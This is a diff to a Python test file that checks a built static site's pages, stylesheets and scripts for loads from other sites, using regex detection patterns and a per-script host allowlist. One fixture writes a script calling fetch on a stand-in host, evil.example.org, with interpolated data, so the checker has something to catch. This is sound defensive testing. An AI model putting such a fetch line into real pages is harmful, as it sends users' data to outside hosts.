@@ -2,11 +2,12 @@
 
 from __future__ import annotations
 
+import fnmatch
 import re
 from html.parser import HTMLParser
 from pathlib import Path
 
-from conftest import EXAMPLE_SLUG
+from devtools.projects import EXAMPLE_SLUG
 
 
 def page(built: Path, *parts: str) -> str:
@@ -136,23 +137,76 @@ def test_timeline_lists_tariff_and_remarks_in_order(built_example: Path) -> None
     assert any(t.startswith("24 February 2025") for t in texts)
 
 
-def test_pages_carry_no_external_resources(built_example: Path) -> None:
+# Pages and stylesheets may not load anything from another site.
+HTML_CSS_REMOTE = [
+    r'\bsrc=["\']?https?://',
+    r'<link[^>]+rel=["\']?stylesheet[^>]+href=["\']?https?://',
+    r'url\(\s*["\']?https?://',
+]
+# A script can only load what it names in a string, so every quoted absolute address in the
+# site's scripts (host, or "${" where the script builds one) must be one of these, each known
+# to load nothing here. test_offline.py backs this up in the browser, where nothing may
+# leave 127.0.0.1; this check also covers code paths a page load does not take.
+SCRIPT_HOSTS = {
+    # Material's bundle: mermaid and a ResizeObserver polyfill from unpkg, loaded only for a
+    # page with a mermaid diagram or a browser without ResizeObserver (none here), and the
+    # repository facts from GitHub or GitLab (`${host}`), fetched only when mkdocs.yml sets
+    # repo_url, which it does not.
+    "assets/javascripts/bundle.*.min.js": {"unpkg.com", "api.github.com", "${"},
+    # Vega: XML namespaces, its own schema's id, and the "Open in Vega Editor" link of the
+    # actions menu.
+    "briefings/_assets/vega-bundle.js": {"www.w3.org", "vega.github.io"},
+    # Pagefind: a base that resolves relative result URLs (never requested), an SVG namespace.
+    "pagefind/pagefind.js": {"example.com"},
+    "pagefind/pagefind-worker.js": {"example.com"},
+    "pagefind/pagefind-ui.js": {"www.w3.org"},
+}
+QUOTED_ADDRESS = re.compile(
+    r"""["'`](?:https?:)?//((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}|\$\{)""")
+
+
+def external_references(site: Path) -> list[str]:
+    """Every reference to another site that a page, stylesheet or script of `site` holds
+    and that is not on the lists above."""
     offenders = []
-    for path in (built_example / "site").rglob("*"):
+    for path in sorted(site.rglob("*")):
         if path.suffix not in (".html", ".css", ".js") or not path.is_file():
             continue
+        rel = path.relative_to(site).as_posix()
         text = path.read_text(encoding="utf-8", errors="replace")
-        patterns = [
-            r'\bsrc=["\']?https?://',
-            r'<link[^>]+rel=["\']?stylesheet[^>]+href=["\']?https?://',
-            r'url\(\s*["\']?https?://',
-        ]
         if path.suffix == ".js":
-            patterns = patterns[:0]  # scripts are checked in the browser, by what they request
-        for pattern in patterns:
-            for match in re.finditer(pattern, text):
-                offenders.append(f"{path.name}: {text[match.start() : match.start() + 80]}")
-    assert offenders == []
+            allowed = set().union(*(hosts for pattern, hosts in SCRIPT_HOSTS.items()
+                                    if fnmatch.fnmatch(rel, pattern)))
+            offenders += [f"{rel}: {text[m.start(): m.start() + 80]}"
+                          for m in QUOTED_ADDRESS.finditer(text) if m.group(1) not in allowed]
+            continue
+        for pattern in HTML_CSS_REMOTE:
+            offenders += [f"{rel}: {text[m.start(): m.start() + 80]}"
+                          for m in re.finditer(pattern, text)]
+    return offenders
+
+
+def test_pages_carry_no_external_resources(built_example: Path) -> None:
+    site = built_example / "site"
+    scripts = {p.relative_to(site).as_posix() for p in site.rglob("*.js")}
+    assert {"briefings/_assets/charts.js", "briefings/_assets/vega-bundle.js",
+            "pagefind/pagefind-ui.js"} <= scripts  # the scripts checked are there
+    assert external_references(site) == []
+
+
+def test_the_external_reference_check_can_fail(tmp_path: Path) -> None:
+    """The check above finds what it looks for: in pages, stylesheets, our own scripts and
+    third-party ones (a host their list does not hold)."""
+    (tmp_path / "briefings" / "_assets").mkdir(parents=True)
+    (tmp_path / "index.html").write_text('<img src="https://cdn.example.org/x.png">')
+    (tmp_path / "a.css").write_text("b{background:url( 'http://x.example.org/y.png')}")
+    (tmp_path / "briefings" / "_assets" / "charts.js").write_text(
+        'import("https://cdn.jsdelivr.net/npm/vega@5"); fetch(`//evil.example.org/${x}`);')
+    (tmp_path / "briefings" / "_assets" / "vega-bundle.js").write_text(
+        'const ns = "http://www.w3.org/2000/svg"; load("https://unpkg.com/vega-lite");')
+    found = external_references(tmp_path)
+    assert len(found) == 5, found
+    assert not any("www.w3.org" in f for f in found)
 
 
 def test_generated_markdown_lives_in_owned_folder(built_example: Path) -> None:
